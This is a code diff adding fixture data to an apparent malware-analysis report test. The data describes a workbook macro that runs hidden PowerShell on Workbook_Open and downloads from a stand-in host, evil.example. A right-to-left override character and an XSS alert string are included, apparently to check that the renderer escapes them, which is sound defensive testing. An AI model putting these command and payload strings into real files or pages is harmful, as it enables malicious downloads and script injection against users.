@@ -26,6 +26,20 @@ export const sampleReport = () => ({
       evidence: [{ path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "Shell \"https://evil.example/a\"\r\n<script>alert(1)</script>" }], more: 2 },
     { id: "file.irregular", severity: "none", artifact: 0, advice: null, values: { what: "x" }, evidence: [], more: 0 },
   ],
+  actions: [
+    { artifact: 1, kind: "run", detail: "powershell -w hidden \u202Ehttps://evil.example/b <b>", automatic: true, trigger: "Workbook_Open", decoded: false,
+      at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
+    { artifact: 1, kind: "download", detail: "https://evil.example/b", automatic: true, trigger: "Workbook_Open", decoded: true,
+      at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
+  ],
+  more_actions: 4,
+  story: [
+    { step: "open", artifact: 0, detail: "" },
+    { step: "inside", artifact: 1, detail: "" },
+    { step: "start", artifact: 1, detail: "Workbook_Open" },
+    { step: "run", artifact: 1, detail: "powershell -w hidden \u202Ehttps://evil.example/b <b>" },
+    { step: "download", artifact: 1, detail: "https://evil.example/b" },
+  ],
 });
 
 /** A node that remembers what was done to it; markup in text stays text. */
